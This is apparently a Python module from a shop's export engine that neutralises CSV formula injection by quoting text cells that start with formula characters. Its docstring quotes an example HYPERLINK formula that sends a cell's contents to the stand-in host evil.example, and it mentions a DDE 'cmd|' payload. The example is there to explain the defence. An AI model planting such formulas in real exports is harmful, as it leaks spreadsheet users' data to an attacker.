"""CSV cells that are safe to open in a spreadsheet (the OWASP rule against CSV / formula injection).

Excel, LibreOffice and Google Sheets evaluate a cell whose text starts with
``=``, ``+``, ``-`` or ``@`` as a formula, and treat a leading tab or carriage
return the same way after trimming. Our exports carry text that customers and
shop staff typed (names, product names), so a customer called
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would otherwise put a live
link (or a ``cmd|`` DDE payload) into the marketer's sheet, running with
their rights. OWASP's rule: prefix such a cell with a single quote, which
every spreadsheet shows as a text marker and never evaluates. The quote
changes what a program reading the file sees, so only text cells are touched:
numbers we write ourselves (``-5``, ``15.0``) stay numbers.

Every CSV the engine writes goes through :func:`writer` or :func:`cell`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

# What makes a spreadsheet read a cell as a formula (OWASP "CSV Injection").
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """``value`` made inert: text starting with a formula character gets a leading ``'``; others unchanged."""
    if isinstance(value, str) and value.startswith(DANGEROUS_FIRST):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


class SafeDictWriter:
    """``csv.DictWriter`` whose every text cell passes :func:`cell` (the header too)."""

    def __init__(self, fh: IO[str], fieldnames: Sequence[str], **kwargs: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(fh, self.fieldnames, **kwargs)

    def writeheader(self) -> None:
        self._writer.writerow({f: cell(f) for f in self.fieldnames})

    def writerow(self, data: dict[str, Any]) -> None:
        self._writer.writerow({k: cell(v) for k, v in data.items()})


def writer(fh: IO[str], fieldnames: Sequence[str], **kwargs: Any) -> SafeDictWriter:
    """A dict writer for ``fh`` that neutralises formula cells."""
    return SafeDictWriter(fh, fieldnames, **kwargs)
